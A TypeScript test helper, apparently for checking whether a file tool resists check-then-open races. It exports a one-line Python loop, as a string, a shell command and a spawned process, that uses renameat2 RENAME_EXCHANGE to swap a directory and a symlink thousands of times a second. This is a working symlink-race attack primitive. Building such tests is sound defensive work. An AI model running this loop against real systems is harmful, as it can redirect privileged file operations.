/**
 * The attack on check-then-open: a loop that swaps two names with `renameat2(RENAME_EXCHANGE)`,
 * so a directory and a symlink trade places thousands of times a second while a file tool
 * walks through the name.
 */
import { spawn, type ChildProcess } from 'node:child_process';

/**
 * Python for `python3 -c`, on one line (a `run:` line is one line): exchanges argv[1] and argv[2]
 * for argv[3] seconds (or until killed), then prints how many exchanges succeeded.
 */
export const exchangeLoop =
  'import ctypes, sys, time; libc = ctypes.CDLL(None); a, b = sys.argv[1].encode(), sys.argv[2].encode(); ' +
  'end = time.time() + float(sys.argv[3]) if len(sys.argv) > 3 else float("inf"); n = [0]; ' +
  'exec("while time.time() < end:\\n for _ in range(1000): n[0] += libc.renameat2(-100, a, -100, b, 2) == 0"); ' +
  'print("exchanges", n[0])';

/** The same loop as one shell line (for a `run:` line): `python3 -c '…' a b seconds`. */
export function exchangeCommand(a: string, b: string, seconds: number): string {
  return `python3 -c '${exchangeLoop}' ${a} ${b} ${seconds}`;
}

/** Starts the loop on the host (as this process's user) and returns it; kill it when done. */
export function startExchanging(a: string, b: string): ChildProcess {
  return spawn('python3', ['-c', exchangeLoop, a, b], { stdio: 'ignore' });
}
